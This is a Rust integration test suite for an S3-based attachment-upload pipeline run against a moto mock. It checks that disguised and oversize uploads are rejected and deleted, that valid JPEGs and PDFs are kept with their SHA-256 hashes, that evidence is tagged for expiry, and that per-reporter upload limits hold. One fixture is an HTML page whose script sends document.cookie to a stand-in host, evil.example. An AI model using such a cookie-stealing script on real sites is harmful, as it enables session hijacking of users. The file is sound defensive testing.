//! Processing stored objects against moto with `template.yaml` deployed: real presigned POSTs
//! into the bucket's upload area, the bucket's own `ObjectCreated` notifications received from
//! the attachment-events queue, and the processing the function runs on them. Checked on the
//! bucket's version list and the attachment records, not on what processing says it did.

use std::time::{Duration, Instant};

use attachments::presign::{PresignedPost, Signer, bucket_url, presign_post};
use attachments::process::{NEVER_ATTACHED_TAG, Objects, Processed};
use attachments::queue::{self, Message};
use aws_sdk_s3::config::{BehaviorVersion, Credentials, Region};
use chrono::Utc;
use domain::{AttachmentId, ReporterKey};
use sha2::{Digest, Sha256};
use store::attachments::{evidence_key, incoming_key};
use store::{Attachment, AttachmentSource, AttachmentStatus, ReportingStore};

const JPEG: &[u8] = include_bytes!("fixtures/photo.jpg");
const PDF: &[u8] = include_bytes!("fixtures/report.pdf");
const HTML: &[u8] = b"<!doctype html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>";
const MIB: usize = 1024 * 1024;

struct Bench {
    _moto: testkit::MotoServer,
    s3: aws_sdk_s3::Client,
    sqs: aws_sdk_sqs::Client,
    records: ReportingStore,
    bucket: String,
    queue_url: String,
    upload_url: String,
    http: reqwest::Client,
    /// Notifications received but not asked for yet.
    received: std::sync::Mutex<Vec<String>>,
}

/// One object version or delete marker: (key, version id, is a delete marker).
type Version = (String, String, bool);

impl Bench {
    async fn start() -> Self {
        let (moto, stack) = tokio::task::spawn_blocking(|| {
            let moto = testkit::MotoServer::start();
            let stack = testkit::deploy_template(&moto);
            testkit::disable_event_source_mappings(&moto.endpoint());
            (moto, stack)
        })
        .await
        .expect("start moto");
        let endpoint = moto.endpoint();
        let creds = Credentials::new("test", "test", None, None, "tests");
        let s3 = aws_sdk_s3::Client::from_conf(
            aws_sdk_s3::Config::builder()
                .behavior_version(BehaviorVersion::latest())
                .endpoint_url(&endpoint)
                .region(Region::new("us-east-1"))
                .credentials_provider(creds.clone())
                .force_path_style(true)
                .build(),
        );
        let sqs = aws_sdk_sqs::Client::from_conf(
            aws_sdk_sqs::Config::builder()
                .behavior_version(BehaviorVersion::latest())
                .endpoint_url(&endpoint)
                .region(Region::new("us-east-1"))
                .credentials_provider(creds.clone())
                .build(),
        );
        let db = aws_sdk_dynamodb::Client::from_conf(
            aws_sdk_dynamodb::Config::builder()
                .behavior_version(BehaviorVersion::latest())
                .endpoint_url(&endpoint)
                .region(Region::new("us-east-1"))
                .credentials_provider(creds)
                .build(),
        );
        let bucket = stack.physical_id("AttachmentBucket");
        Self {
            _moto: moto,
            s3,
            sqs,
            records: ReportingStore::new(db, stack.table_name()),
            upload_url: bucket_url(Some(&endpoint), &bucket, "us-east-1"),
            bucket,
            queue_url: stack.physical_id("AttachmentEventsQueue"),
            http: reqwest::Client::new(),
            received: std::sync::Mutex::new(Vec::new()),
        }
    }

    fn objects(&self) -> Objects<'_> {
        Objects {
            s3: &self.s3,
            bucket: &self.bucket,
        }
    }

    /// What `POST /api/reporter/uploads` does: a pending record and a presigned POST for it.
    async fn authorise(
        &self,
        owner: &ReporterKey,
        content_type: &str,
        size: u64,
    ) -> (AttachmentId, PresignedPost) {
        let kind = attachments::kind::by_type(content_type).expect("an allowed type");
        let id = AttachmentId::parse(&format!("a{}", uuid::Uuid::new_v4().simple())).expect("id");
        let now = Utc::now();
        let record = Attachment {
            id: id.clone(),
            owner: owner.clone(),
            declared_type: content_type.to_owned(),
            declared_size: size,
            source: AttachmentSource::Upload,
            status: AttachmentStatus::Pending,
            created_at: now,
        };
        assert!(
            self.records
                .create_attachment(&record)
                .await
                .expect("record")
        );
        let signer = Signer {
            access_key_id: "test".into(),
            secret_access_key: "test".into(),
            session_token: None,
            region: "us-east-1".into(),
        };
        let post = presign_post(
            &signer,
            self.upload_url.clone(),
            &self.bucket,
            &incoming_key(owner, &id),
            kind.content_type,
            kind.max_bytes,
            now,
        );
        (id, post)
    }

    /// Posts `bytes` as the browser does: the policy's fields, then the file.
    async fn upload(&self, post: &PresignedPost, file_name: &str, bytes: Vec<u8>) {
        let mut form = reqwest::multipart::Form::new();
        for (k, v) in &post.fields {
            form = form.text(k.clone(), v.as_str().expect("string field").to_owned());
        }
        let part = reqwest::multipart::Part::bytes(bytes).file_name(file_name.to_owned());
        let resp = self
            .http
            .post(&post.url)
            .multipart(form.part("file", part))
            .send()
            .await
            .expect("post");
        assert_eq!(resp.status().as_u16(), 204, "{:?}", resp.text().await);
    }

    /// Receives the queue's records until one is the bucket's notification of `key`; returns
    /// its body. Received records are deleted from the queue (as the event source does after a
    /// success); the others are kept for a later call.
    async fn notification_of(&self, key: &str) -> String {
        let names = |body: &str| matches!(queue::parse(body), Some(Message::Stored(keys)) if keys.iter().any(|k| k == key));
        let started = Instant::now();
        loop {
            {
                let mut seen = self.received.lock().expect("lock");
                if let Some(i) = seen.iter().position(|b| names(b)) {
                    return seen.remove(i);
                }
            }
            assert!(
                started.elapsed() < Duration::from_secs(30),
                "no notification of {key} on the attachment-events queue"
            );
            let out = self
                .sqs
                .receive_message()
                .queue_url(&self.queue_url)
                .max_number_of_messages(10)
                .wait_time_seconds(1)
                .send()
                .await
                .expect("receive");
            for m in out.messages() {
                self.sqs
                    .delete_message()
                    .queue_url(&self.queue_url)
                    .receipt_handle(m.receipt_handle().expect("handle"))
                    .send()
                    .await
                    .expect("delete");
                self.received
                    .lock()
                    .expect("lock")
                    .push(m.body().unwrap_or_default().to_owned());
            }
        }
    }

    /// Runs processing on every object a notification names, as the function does.
    async fn process(&self, body: &str) -> Vec<Processed> {
        let Some(Message::Stored(keys)) = queue::parse(body) else {
            panic!("not a bucket notification: {body}");
        };
        let mut out = Vec::new();
        for key in keys {
            out.push(
                self.objects()
                    .process(&self.records, &key)
                    .await
                    .expect("processing"),
            );
        }
        out
    }

    /// Every version and delete marker whose key starts with `prefix`.
    async fn versions(&self, prefix: &str) -> Vec<Version> {
        let out = self
            .s3
            .list_object_versions()
            .bucket(&self.bucket)
            .prefix(prefix)
            .send()
            .await
            .expect("list versions");
        assert_ne!(
            out.is_truncated(),
            Some(true),
            "more versions than one page"
        );
        let mut all: Vec<Version> = out
            .versions()
            .iter()
            .map(|v| {
                (
                    v.key().unwrap_or_default().to_owned(),
                    v.version_id().unwrap_or_default().to_owned(),
                    false,
                )
            })
            .chain(out.delete_markers().iter().map(|m| {
                (
                    m.key().unwrap_or_default().to_owned(),
                    m.version_id().unwrap_or_default().to_owned(),
                    true,
                )
            }))
            .collect();
        all.sort();
        all
    }

    async fn bytes(&self, key: &str) -> Vec<u8> {
        self.s3
            .get_object()
            .bucket(&self.bucket)
            .key(key)
            .send()
            .await
            .expect("get object")
            .body
            .collect()
            .await
            .expect("body")
            .into_bytes()
            .to_vec()
    }

    async fn record(&self, id: &AttachmentId) -> Attachment {
        self.records
            .attachment(id)
            .await
            .expect("read record")
            .expect("record exists")
    }
}

fn reporter(n: u8) -> ReporterKey {
    ReporterKey::parse(&hex::encode([n; 32])).expect("reporter key")
}

fn sha256(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn disguised_and_oversize_uploads_are_refused_and_every_version_deleted() {
    // Arrange: an HTML page named .jpg declared image/jpeg, and a JPEG one byte over 10 MiB
    let b = Bench::start().await;
    let owner = reporter(1);
    let (html_id, html_post) = b.authorise(&owner, "image/jpeg", HTML.len() as u64).await;
    b.upload(&html_post, "现场照片.jpg", HTML.to_vec()).await;
    let mut big = JPEG.to_vec();
    big.resize(10 * MIB + 1, 0);
    let (big_id, big_post) = b.authorise(&owner, "image/jpeg", 10 * MIB as u64).await;
    b.upload(&big_post, "大照片.jpg", big).await;
    let html_key = incoming_key(&owner, &html_id);
    let big_key = incoming_key(&owner, &big_id);
    assert_eq!(b.versions(&html_key).await.len(), 1, "the upload is stored");
    assert_eq!(b.versions(&big_key).await.len(), 1, "the upload is stored");

    // Act: the bucket's notifications, processed
    let html_note = b.notification_of(&html_key).await;
    let big_note = b.notification_of(&big_key).await;
    let html_out = b.process(&html_note).await;
    let big_out = b.process(&big_note).await;

    // Assert: refused with the reason, on the record too; nothing left in the bucket
    assert_eq!(
        html_out,
        vec![Processed::Rejected {
            id: html_id.clone(),
            reason: "type_not_allowed".into()
        }]
    );
    assert_eq!(
        big_out,
        vec![Processed::Rejected {
            id: big_id.clone(),
            reason: "too_large".into()
        }]
    );
    for (id, reason) in [(&html_id, "type_not_allowed"), (&big_id, "too_large")] {
        let r = b.record(id).await;
        assert_eq!(
            r.status,
            AttachmentStatus::Rejected {
                reason: reason.into()
            }
        );
        assert_eq!(r.evidence(), None);
    }
    assert_eq!(
        b.versions("").await,
        Vec::<Version>::new(),
        "every version deleted, no delete marker, nothing copied to evidence/"
    );

    // Act again: the same notifications delivered once more
    let html_before = b.record(&html_id).await;
    let big_before = b.record(&big_id).await;
    assert_eq!(b.process(&html_note).await, vec![Processed::AlreadySettled]);
    assert_eq!(b.process(&big_note).await, vec![Processed::AlreadySettled]);

    // Assert: nothing changed
    assert_eq!(b.record(&html_id).await, html_before);
    assert_eq!(b.record(&big_id).await, big_before);
    assert_eq!(b.versions("").await, Vec::<Version>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_real_jpeg_and_pdf_are_kept_byte_for_byte_with_their_sha256() {
    // Arrange
    let b = Bench::start().await;
    let owner = reporter(2);
    let (jpg_id, jpg_post) = b.authorise(&owner, "image/jpeg", JPEG.len() as u64).await;
    b.upload(&jpg_post, "现场.jpg", JPEG.to_vec()).await;
    let (pdf_id, pdf_post) = b
        .authorise(&owner, "application/pdf", PDF.len() as u64)
        .await;
    b.upload(&pdf_post, "土地证.pdf", PDF.to_vec()).await;

    // Act
    let jpg_note = b.notification_of(&incoming_key(&owner, &jpg_id)).await;
    let pdf_note = b.notification_of(&incoming_key(&owner, &pdf_id)).await;
    let jpg_out = b.process(&jpg_note).await;
    let pdf_out = b.process(&pdf_note).await;

    // Assert: ready with the SHA-256 of the exact bytes, kept at evidence/<id> and only there
    assert_eq!(
        jpg_out,
        vec![Processed::Ready {
            id: jpg_id.clone(),
            sha256: sha256(JPEG)
        }]
    );
    assert_eq!(
        pdf_out,
        vec![Processed::Ready {
            id: pdf_id.clone(),
            sha256: sha256(PDF)
        }]
    );
    for (id, bytes, content_type) in [
        (&jpg_id, JPEG, "image/jpeg"),
        (&pdf_id, PDF, "application/pdf"),
    ] {
        let r = b.record(id).await;
        assert_eq!(
            r.status,
            AttachmentStatus::Ready {
                sha256: sha256(bytes),
                content_type: content_type.into(),
                size: bytes.len() as u64,
            }
        );
        assert_eq!(
            b.bytes(&evidence_key(id)).await,
            bytes,
            "kept byte for byte"
        );
        let head =
            b.s3.head_object()
                .bucket(&b.bucket)
                .key(evidence_key(id))
                .send()
                .await
                .expect("head");
        assert_eq!(head.content_type(), Some(content_type));
        assert_eq!(
            head.metadata().and_then(|m| m.get("sha256")),
            Some(&sha256(bytes))
        );
    }
    let kept = b.versions("").await;
    let keys: Vec<(&str, bool)> = kept.iter().map(|(k, _, m)| (k.as_str(), *m)).collect();
    let mut expected = [
        (evidence_key(&jpg_id), false),
        (evidence_key(&pdf_id), false),
    ];
    expected.sort();
    assert_eq!(
        keys,
        expected
            .iter()
            .map(|(k, m)| (k.as_str(), *m))
            .collect::<Vec<_>>(),
        "one version of each evidence object; the uploads deleted with every version"
    );

    // Act again: the same notifications delivered once more
    let jpg_before = b.record(&jpg_id).await;
    let pdf_before = b.record(&pdf_id).await;
    assert_eq!(b.process(&jpg_note).await, vec![Processed::AlreadySettled]);
    assert_eq!(b.process(&pdf_note).await, vec![Processed::AlreadySettled]);

    // Assert: nothing changed (same versions, same ids, same records)
    assert_eq!(b.versions("").await, kept);
    assert_eq!(b.record(&jpg_id).await, jpg_before);
    assert_eq!(b.record(&pdf_id).await, pdf_before);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bytes_posted_again_after_settling_and_unclaimed_objects_are_deleted() {
    // Arrange: a JPEG kept as evidence, then other bytes posted with the same (still valid)
    // upload policy; and an object at an upload key nobody authorised
    let b = Bench::start().await;
    let owner = reporter(3);
    let (id, post) = b.authorise(&owner, "image/jpeg", JPEG.len() as u64).await;
    let key = incoming_key(&owner, &id);
    b.upload(&post, "现场.jpg", JPEG.to_vec()).await;
    let first = b.notification_of(&key).await;
    assert!(matches!(
        b.process(&first).await.as_slice(),
        [Processed::Ready { .. }]
    ));
    let evidence_before = b.versions("evidence/").await;
    let record_before = b.record(&id).await;
    b.upload(&post, "现场.jpg", HTML.to_vec()).await;
    let stray = AttachmentId::parse("a0000000000000000000000000000dead").expect("id");
    let stray_key = incoming_key(&owner, &stray);
    b.s3.put_object()
        .bucket(&b.bucket)
        .key(&stray_key)
        .body(JPEG.to_vec().into())
        .send()
        .await
        .expect("put");
    assert_eq!(b.versions("incoming/").await.len(), 2);

    // Act
    let again = b.notification_of(&key).await;
    let stray_note = b.notification_of(&stray_key).await;
    let again_out = b.process(&again).await;
    let stray_out = b.process(&stray_note).await;

    // Assert: the later bytes are deleted without touching the evidence or the record; the
    // unclaimed object is deleted; no delete markers anywhere
    assert_eq!(again_out, vec![Processed::AlreadySettled]);
    assert_eq!(stray_out, vec![Processed::Unclaimed]);
    assert_eq!(b.versions("incoming/").await, Vec::<Version>::new());
    assert_eq!(b.versions("evidence/").await, evidence_before);
    assert_eq!(b.bytes(&evidence_key(&id)).await, JPEG);
    assert_eq!(b.record(&id).await, record_before);
}

impl Bench {
    /// The tags of the current version of `key`.
    async fn tags(&self, key: &str) -> Vec<(String, String)> {
        self.s3
            .get_object_tagging()
            .bucket(&self.bucket)
            .key(key)
            .send()
            .await
            .expect("get tagging")
            .tag_set()
            .iter()
            .map(|t| (t.key().to_owned(), t.value().to_owned()))
            .collect()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn evidence_no_clue_attaches_is_tagged_for_expiry_and_a_filing_keeps_it() {
    // Arrange: two photos kept as evidence; the bucket as deployed from the template
    let b = Bench::start().await;
    let owner = reporter(4);
    let (filed, filed_post) = b.authorise(&owner, "image/jpeg", JPEG.len() as u64).await;
    let (left, left_post) = b.authorise(&owner, "image/jpeg", JPEG.len() as u64).await;
    for (id, post) in [(&filed, &filed_post), (&left, &left_post)] {
        b.upload(post, "现场.jpg", JPEG.to_vec()).await;
        let note = b.notification_of(&incoming_key(&owner, id)).await;
        assert!(matches!(
            b.process(&note).await.as_slice(),
            [Processed::Ready { .. }]
        ));
    }
    let tag = (
        NEVER_ATTACHED_TAG.0.to_owned(),
        NEVER_ATTACHED_TAG.1.to_owned(),
    );

    // Assert: processed evidence carries the never-attached tag, and the bucket's lifecycle
    // expires exactly what carries it under evidence/
    assert_eq!(b.tags(&evidence_key(&filed)).await, vec![tag.clone()]);
    assert_eq!(b.tags(&evidence_key(&left)).await, vec![tag.clone()]);
    let rules =
        b.s3.get_bucket_lifecycle_configuration()
            .bucket(&b.bucket)
            .send()
            .await
            .expect("lifecycle")
            .rules()
            .to_vec();
    let rule = rules
        .iter()
        .find(|r| r.id() == Some("ExpireNeverAttachedEvidence"))
        .expect("the never-attached rule is deployed");
    let and = rule
        .filter()
        .and_then(|f| f.and())
        .expect("prefix and tag filter");
    assert_eq!(and.prefix(), Some("evidence/"));
    assert_eq!(
        and.tags()
            .iter()
            .map(|t| (t.key().to_owned(), t.value().to_owned()))
            .collect::<Vec<_>>(),
        vec![tag.clone()]
    );
    assert!(rule.expiration().and_then(|e| e.days()).is_some());

    // Act: a filing keeps one of them (the message intake sends), twice (a redelivery)
    let keep = format!(r#"{{"keep_evidence":["{filed}"]}}"#);
    let Some(Message::Keep(ids)) = queue::parse(&keep) else {
        panic!("not a keep message: {keep}");
    };
    b.objects().keep(&ids).await.expect("keep");
    b.objects().keep(&ids).await.expect("keep again");

    // Assert: the filed evidence lost the tag (the lifecycle no longer applies), the bytes and
    // versions are untouched; the one nobody filed keeps its tag
    assert_eq!(b.tags(&evidence_key(&filed)).await, Vec::new());
    assert_eq!(b.tags(&evidence_key(&left)).await, vec![tag]);
    assert_eq!(b.bytes(&evidence_key(&filed)).await, JPEG);
    assert_eq!(b.versions("evidence/").await.len(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_are_limited_per_reporter_and_refused_to_a_blocked_reporter() {
    use attachments::limits::{Refusal, UPLOAD_LIMITS, admit};
    // Arrange: a blocked reporter, a busy one and another
    let b = Bench::start().await;
    let now = Utc::now();
    let (blocked, busy, other) = (reporter(21), reporter(22), reporter(23));
    b.records
        .block(&store::Block {
            reporter: blocked.clone(),
            reason: domain::text::Reason::parse("恶意重复举报").expect("reason"),
            by: "operator-1".into(),
            at: now,
        })
        .await
        .expect("block");
    let hourly = UPLOAD_LIMITS[0].max;
    let one = |k: &domain::ReporterKey| store::ReporterKeys::new(vec![k.clone()]).expect("keys");
    // The same reporters after a rotation of the reporter-key secret: a new current key, the
    // earlier one still live.
    let rotated = |k: &domain::ReporterKey, n: u8| {
        store::ReporterKeys::new(vec![reporter(n), k.clone()]).expect("keys")
    };

    // Act
    let refused_blocked = admit(&b.records, &one(&blocked), now).await.expect("admit");
    let mut admitted = 0;
    for _ in 0..hourly {
        if admit(&b.records, &one(&busy), now)
            .await
            .expect("admit")
            .is_ok()
        {
            admitted += 1;
        }
    }
    let over = admit(&b.records, &one(&busy), now).await.expect("admit");
    let others = admit(&b.records, &one(&other), now).await.expect("admit");
    let next_hour = admit(&b.records, &one(&busy), now + chrono::Duration::hours(1))
        .await
        .expect("admit");
    let blocked_after_rotation = admit(&b.records, &rotated(&blocked, 31), now)
        .await
        .expect("admit");
    let busy_after_rotation = admit(&b.records, &rotated(&busy, 32), now)
        .await
        .expect("admit");
    let other_after_rotation = admit(&b.records, &rotated(&other, 33), now)
        .await
        .expect("admit");

    // Assert
    assert_eq!(refused_blocked, Err(Refusal::Blocked));
    assert_eq!(admitted, hourly);
    assert_eq!(over, Err(Refusal::TooMany));
    assert_eq!(
        others,
        Ok(()),
        "one reporter's uploads do not limit another"
    );
    assert_eq!(next_hour, Ok(()), "the hourly window moves on");
    assert_eq!(
        (
            blocked_after_rotation,
            busy_after_rotation,
            other_after_rotation
        ),
        (Err(Refusal::Blocked), Err(Refusal::TooMany), Ok(())),
        "a rotation of the reporter-key secret keeps the block and the count"
    );
    assert_eq!(Refusal::TooMany.status(), 429);
}
